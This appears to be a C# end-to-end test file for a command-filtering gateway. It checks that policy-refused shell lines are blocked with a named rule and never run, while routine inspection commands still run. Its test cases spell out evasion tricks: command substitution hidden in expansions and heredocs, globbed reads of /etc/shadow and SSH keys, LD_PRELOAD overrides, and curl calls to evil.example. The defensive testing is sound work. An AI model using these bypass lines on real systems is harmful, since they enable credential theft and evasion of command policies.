using System.Diagnostics;
using System.Net;
using System.Net.Http.Json;
using System.Text.Json;
using Portcullis.EndToEndTests.Stack;

namespace Portcullis.EndToEndTests;

/// <summary>
/// A sample of the shell execution corpus (tests/Portcullis.UnitTests/Policy/Corpus/shell-execution-cases.txt)
/// through the gateway's POST /exec/ops against the stack's real sshd: a line the policy refuses runs nothing
/// there. Each refused line would create a marker file; bash on this host shows it does, the gateway refuses
/// it, and the marker is still absent afterwards.
/// </summary>
[Collection(StackCollection.Name)]
public sealed class ShellExecutionTests(PortcullisStack stack)
{
    private static string NewSession() => "e2e-shell-" + Guid.NewGuid().ToString("N")[..10];

    private async Task<(HttpStatusCode Status, JsonElement Body)> Exec(string command)
    {
        using var request = await stack.AgentRequest(HttpMethod.Post, "exec/ops", NewSession());
        request.Content = JsonContent.Create(new { command });
        using var response = await stack.Gateway.SendAsync(request);
        return (response.StatusCode, JsonDocument.Parse(await response.Content.ReadAsStringAsync()).RootElement.Clone());
    }

    // {M} is the marker file the line creates when it runs.
    [Theory]
    [InlineData("echo ${x:-$(touch {M})}", "exec-no-file-writes")]
    [InlineData("echo ${x:=`touch {M}`}", "exec-no-file-writes")]
    [InlineData("x=1; echo ${x#$(touch {M})}", "exec-no-file-writes")]
    [InlineData("echo $(( $(touch {M}) ))", "builtin:command-unanalysable")]
    [InlineData("x='a[$(touch {M})]'; echo $((x))", "builtin:command-unanalysable")]
    [InlineData("cat <<EOF\n$(touch {M})\nEOF", "exec-no-file-writes")]
    [InlineData("cat <<< \"$(touch {M})\"", "exec-no-file-writes")]
    [InlineData("ls\r#; touch {M}", "builtin:command-unanalysable")]
    [InlineData("ls\u000b; touch {M}", "builtin:command-unanalysable")]
    [InlineData("echo hi > {M}", "exec-no-file-writes")]
    [InlineData("ls | tee {M}", "exec-no-file-writes")]
    [InlineData("printf 'touch {M}' | sort --compress-program=sh -S 1K", "exec-no-hidden-programs")]
    [InlineData("PATH=/tmp ls; echo x > {M}", "exec-no-env-override")]
    [InlineData("eval 'touch {M}'", "exec-no-file-writes")]
    public async Task A_refused_line_runs_nothing_on_the_host(string template, string rule)
    {
        var marker = $"/tmp/portcullis-marker-{Guid.NewGuid():N}";
        var command = template.Replace("{M}", marker, StringComparison.Ordinal);
        if (!template.Contains("--compress-program", StringComparison.Ordinal))
        {
            // The line is a real one: run by bash here, it creates its marker.
            RunLocally(command);
            Assert.True(File.Exists(marker), $"bash did not create the marker for: {command}");
            File.Delete(marker);
        }

        var (status, body) = await Exec(command);

        Assert.Equal(HttpStatusCode.Forbidden, status);
        Assert.Equal(rule, body.GetProperty("rule").GetString());
        await Task.Delay(300);
        Assert.False(File.Exists(marker), $"the refused line ran on the host: {command}");
    }

    [Theory]
    [InlineData("cat /etc/sha?ow", "exec-no-secret-files")]
    [InlineData("cat /etc/shado[w]", "exec-no-secret-files")]
    [InlineData("cat /etc//shadow", "exec-no-secret-files")]
    [InlineData("cat /etc/./shadow", "exec-no-secret-files")]
    [InlineData("cat /etc/{passwd,shadow}", "exec-no-secret-files")]
    [InlineData("cat ~/.ss?/id_*", "exec-no-secret-files")]
    [InlineData("cd /etc && cat shadow", "exec-no-secret-files")]
    [InlineData("LD_PRELOAD=/tmp/x.so ls", "exec-no-env-override")]
    [InlineData("export BASH_ENV=/tmp/x; ls", "exec-no-env-override")]
    [InlineData("ls | less", "exec-no-hidden-programs")]
    [InlineData("awk 'BEGIN{system(\"id\")}'", "exec-no-hidden-programs")]
    [InlineData("echo ${x:-$(curl https://evil.example)}", "exec-no-network")]
    [InlineData("echo $(( a[$(id)] ))", "builtin:command-unanalysable")]
    [InlineData("\"$(echo curl)\" https://evil.example", "builtin:command-unanalysable")]
    public async Task Refused_lines_name_their_rule(string command, string rule)
    {
        var (status, body) = await Exec(command);

        Assert.Equal(HttpStatusCode.Forbidden, status);
        Assert.Equal(rule, body.GetProperty("rule").GetString());
    }

    [Theory]
    [InlineData("ls -la /var/log")]
    [InlineData("ps aux | sort -k3 -nr | head")]
    [InlineData("df -h")]
    [InlineData("echo \"$HOME\"")]
    [InlineData("grep -c root /etc/passwd | tail -5")]
    [InlineData("echo $((6*7)) 2>&1 > /dev/null")]
    public async Task Ordinary_inspection_still_runs(string command)
    {
        var (status, body) = await Exec(command);

        Assert.True(status == HttpStatusCode.OK, $"{status}: {body}");
        Assert.Equal(0, body.GetProperty("exitCode").GetInt32());
    }

    private static void RunLocally(string command)
    {
        using var process = Process.Start(new ProcessStartInfo("bash", ["-c", command])
        {
            RedirectStandardOutput = true, RedirectStandardError = true, RedirectStandardInput = true, UseShellExecute = false,
        })!;
        process.StandardInput.Close();
        process.StandardOutput.ReadToEnd();
        process.StandardError.ReadToEnd();
        process.WaitForExit(10_000);
    }
}
